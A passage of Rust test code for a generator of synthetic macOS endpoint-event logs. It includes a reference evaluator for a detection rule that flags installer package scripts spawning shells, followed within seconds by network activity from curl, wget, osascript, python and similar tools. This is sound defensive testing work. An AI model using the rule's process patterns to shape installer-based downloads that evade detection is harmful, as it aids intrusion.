    fn lines_are_json_objects_of_realistic_size() {
        let (v, _) = gen(42, 4, 10_000);
        let text = std::str::from_utf8(&v).expect("utf8");
        let mut in_range = 0usize;
        let mut n = 0usize;
        for line in text.lines() {
            n += 1;
            let doc: serde_json::Value = serde_json::from_str(line).expect("valid JSON");
            let obj = doc.as_object().expect("object");
            assert!(obj.contains_key("@timestamp"), "{line}");
            if (1_500..=3_000).contains(&line.len()) {
                in_range += 1;
            }
        }
        assert_eq!(n, 10_000);
        assert!(in_range * 100 >= n * 95, "only {in_range} of {n} lines within 1.5-3 KB");
    }

    /// Every scenario is causal (push order is time order per host) and, except the
    /// equal-millisecond ones, gives each of its events its own millisecond per host.
    #[test]
    fn scenarios_use_distinct_milliseconds() {
        for seed in 0..15u64 {
            let mut g = Gen::new(&GenerateConfig { seed, hosts: 1 + seed as usize % 3, events: 1_000_000 });
            for (label, name) in LABELS.iter().enumerate() {
                let mut sc = Sc { h: 0, c: g.now / 1000 + 1, evs: Vec::new() };
                g.cur_user = g.hosts[0].user.clone();
                g.build(label, &mut sc);
                let mut seen = std::collections::BTreeSet::new();
                let mut last = std::collections::BTreeMap::new();
                for e in &sc.evs {
                    let prev = last.insert(e.host, e.t).unwrap_or(i64::MIN);
                    assert!(e.t > prev, "{name}: out of order");
                    if !name.starts_with("E_equal_ms") {
                        assert!(seen.insert((e.host, e.t.div_euclid(1000))), "{name}: shared millisecond");
                    }
                }
                g.now += 60_000_000;
            }
        }
    }

    /// Field lookup accepting nested, dotted and mixed spellings.
    fn get<'a>(v: &'a serde_json::Value, path: &str) -> Option<&'a serde_json::Value> {
        if path.is_empty() {
            return Some(v);
        }
        let obj = v.as_object()?;
        let parts: Vec<&str> = path.split('.').collect();
        (1..=parts.len()).rev().find_map(|j| obj.get(&parts[..j].join(".")).and_then(|x| get(x, &parts[j..].join("."))))
    }

    fn strs(v: Option<&serde_json::Value>) -> Vec<&str> {
        match v {
            Some(serde_json::Value::String(s)) => vec![s.as_str()],
            Some(serde_json::Value::Array(a)) => a.iter().filter_map(|x| x.as_str()).collect(),
            _ => Vec::new(),
        }
    }

    /// Case-insensitive wildcard match (`*`, `?`).
    fn wild(p: &[u8], s: &[u8]) -> bool {
        match (p.first(), s.first()) {
            (None, None) => true,
            (Some(b'*'), _) => wild(&p[1..], s) || (!s.is_empty() && wild(p, &s[1..])),
            (Some(b'?'), Some(_)) => wild(&p[1..], &s[1..]),
            (Some(a), Some(b)) => a.eq_ignore_ascii_case(b) && wild(&p[1..], &s[1..]),
            _ => false,
        }
    }

    fn any_like(v: Option<&serde_json::Value>, pats: &[&str]) -> bool {
        strs(v).iter().any(|x| pats.iter().any(|p| wild(p.as_bytes(), x.as_bytes())))
    }

    fn any_eq(v: Option<&serde_json::Value>, want: &str) -> bool {
        strs(v).contains(&want)
    }

    /// Straightforward evaluation of the default rule over a whole corpus.
    fn reference_alerts(text: &str) -> u64 {
        let mut evs: Vec<(i64, i64, serde_json::Value)> = text
            .lines()
            .map(|l| {
                let d: serde_json::Value = serde_json::from_str(l).expect("json");
                let ts = d["@timestamp"].as_str().expect("ts");
                let hms: i64 = ts[11..13].parse::<i64>().unwrap() * 3_600_000 + ts[14..16].parse::<i64>().unwrap() * 60_000;
                let ms = ts[8..10].parse::<i64>().unwrap() * 86_400_000 + hms + ts[17..19].parse::<i64>().unwrap() * 1000 + ts[20..23].parse::<i64>().unwrap();
                let seq = get(&d, "event.sequence").and_then(|v| v.as_i64()).unwrap_or(-1);
                (ms, seq, d)
            })
            .collect();
        evs.sort_by_key(|e| (e.0, e.1));
        let mut pending: std::collections::BTreeMap<(String, String), i64> = Default::default();
        let mut alerts = 0;
        for (ms, _, d) in &evs {
            let mac = any_eq(get(d, "host.os.type"), "macos") && any_eq(get(d, "event.type"), "start");
            let host = get(d, "host.id").and_then(|v| v.as_str());
            if mac
                && any_like(get(d, "event.category"), &["network"])
                && any_like(get(d, "process.name"), &["curl", "osascript", "wget", "python", "java", "ruby", "node"])
            {
                if let (Some(h), Some(k)) = (host, get(d, "process.parent.entity_id").and_then(|v| v.as_str())) {
                    if let Some(t1) = pending.remove(&(h.to_string(), k.to_string())) {
                        if ms - t1 <= 15_000 {
                            alerts += 1;
                        }
                    }
                }
            }
            if mac
                && any_like(get(d, "event.category"), &["process"])
                && any_eq(get(d, "event.action"), "exec")
                && any_like(get(d, "process.parent.name"), &["installer", "package_script_service"])
                && any_like(get(d, "process.name"), &["bash", "sh", "zsh", "python", "osascript", "tclsh*"])
            {
                if let (Some(h), Some(k)) = (host, get(d, "process.entity_id").and_then(|v| v.as_str())) {
                    pending.insert((h.to_string(), k.to_string()), *ms);
                }
            }
        }
        alerts
    }

    #[test]
    fn planted_ground_truth_matches_reference() {
        for (seed, hosts) in [(3u64, 1usize), (4, 6)] {
            let (v, s) = gen(seed, hosts, 12_000);
            let text = std::str::from_utf8(&v).expect("utf8");
            assert_eq!(reference_alerts(text), s.planted_true_positives, "seed {seed}");
        }
    }

    /// Arrival order stays within 3 s of time order; `event.sequence` follows time per host;
    /// `event.id` is a unique 24-character id.
    #[test]
    fn stream_order_sequences_and_ids() {
        let (v, _) = gen(11, 3, 15_000);
        let text = std::str::from_utf8(&v).expect("utf8");
        let mut times = Vec::new();
        let mut per_host: std::collections::BTreeMap<String, Vec<(i64, i64)>> = Default::default();
        let mut ids = std::collections::BTreeSet::new();
        for l in text.lines() {
            let d: serde_json::Value = serde_json::from_str(l).expect("json");
            let ts = d["@timestamp"].as_str().expect("ts");
            assert_eq!(ts.len(), 27, "{ts}");
            assert!(ts.ends_with('Z'));
            let us = ts[11..13].parse::<i64>().unwrap() * 3_600_000_000
                + ts[14..16].parse::<i64>().unwrap() * 60_000_000
                + ts[17..19].parse::<i64>().unwrap() * 1_000_000
                + ts[20..26].parse::<i64>().unwrap()
                + ts[8..10].parse::<i64>().unwrap() * 86_400_000_000;
            times.push(us);
            let id = get(&d, "event.id").and_then(|x| x.as_str()).expect("event.id");
            assert_eq!(id.len(), 24);
            assert!(ids.insert(id.to_string()), "duplicate event.id {id}");
            let agent = get(&d, "agent.id").and_then(|x| x.as_str()).expect("agent.id").to_string();
            let seq = get(&d, "event.sequence").and_then(|x| x.as_i64()).expect("event.sequence");
            per_host.entry(agent).or_default().push((us, seq));
        }
        let mut sorted = times.clone();
        sorted.sort_unstable();
        let worst = times.iter().zip(&sorted).map(|(a, b)| (a - b).abs()).max().unwrap_or(0);
        assert!(worst <= 3_000_000, "event {worst} µs away from its sorted position");
        assert!(times.windows(2).any(|w| w[1] < w[0]), "expected some local shuffling");
        for (_, mut v) in per_host {
            v.sort_unstable();
            assert!(v.windows(2).all(|w| w[1].1 > w[0].1), "event.sequence must increase with time");
        }
    }

    #[test]
    fn every_scenario_is_planted() {
        let (_, s) = gen(1, 5, 20_000);
        assert_eq!(s.scenarios.len(), LABELS.len());
        for (label, count) in &s.scenarios {
            assert!(*count > 0, "{label} missing");
        }
        for seed in [2u64, 9] {
            let (_, s) = gen(seed, 1 + seed as usize, 5_000);
            for (label, count) in &s.scenarios {
                assert!(*count > 0, "{label} missing from 5 000 events (seed {seed})");
            }
        }
        assert!(s.planted_true_positives > 0);
        assert!(s.planted_near_misses > 0);
    }
}
